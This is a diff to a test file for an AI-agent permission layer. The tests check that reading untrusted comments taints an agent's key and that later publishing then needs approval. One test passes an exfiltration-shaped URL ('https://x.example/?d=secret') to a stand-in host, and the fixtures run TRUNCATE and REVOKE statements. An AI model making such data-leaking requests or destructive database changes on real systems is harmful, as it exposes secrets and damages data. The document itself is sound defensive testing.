@@ -4,6 +4,7 @@ import { uuidv7 } from '@cloudhal/shared/ids';
 import { argumentsHash, signPermit, signPrincipal } from '@cloudhal/shared/permit';
 import { generateSigner } from '@cloudhal/shared/secrets';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { taintedUntil } from './taint-store.ts';
 import { aDeveloper, anAgent, aPerson } from './testing/facts.ts';
 import { anAgentOfItsOwn as agent, codeOf, type House, openHouse } from './testing/house.ts';
 
@@ -212,7 +213,7 @@ describe('text from strangers', () => {
     const principal = agent({ mode: 'auto' });
     expect((await house.call('publish', { what: 'x' }, { principal })).kind).toBe('result');
     await house.call('list_comments', {}, { principal });
-    expect(await house.keyValue.get(`taint:${principal.keyId}`)).toBeDefined();
+    expect(await taintedUntil(house.database, principal)).toBeDefined();
     expect((await house.call('publish', { what: 'x' }, { principal })).kind).toBe('approval_required');
     const fetch = await house.question('fetch_asset_url', { url: 'https://x.example/?d=secret' }, { principal });
     expect(fetch.reason).toMatch(/strangers/);
@@ -235,14 +236,21 @@ describe('text from strangers', () => {
     expect((await house.call('delete_page', { page: 'x' }, { principal, answer })).kind).toBe('result');
   });
 
+  it('taints the key also where the small shared state is lost in the meantime', async () => {
+    const principal = agent({ mode: 'auto' });
+    await house.call('list_comments', {}, { principal });
+    await house.database.query('TRUNCATE shared.key_value');
+    expect((await house.call('publish', { what: 'x' }, { principal })).kind).toBe('approval_required');
+  });
+
   it('does not go on where the taint cannot be stored', async () => {
     const principal = agent();
     const arrived = house.rooms.permits.length;
-    await house.database.query('ALTER TABLE shared.key_value RENAME TO away');
+    await house.database.query('REVOKE INSERT ON policy.taint FROM cloudhal_policy');
     try {
       expect(await codeOf(house.call('list_comments', {}, { principal }))).toBe('policy_unavailable');
     } finally {
-      await house.database.query('ALTER TABLE shared.away RENAME TO key_value');
+      await house.database.query('GRANT INSERT ON policy.taint TO cloudhal_policy');
     }
     expect(house.rooms.permits.length).toBe(arrived);
   });
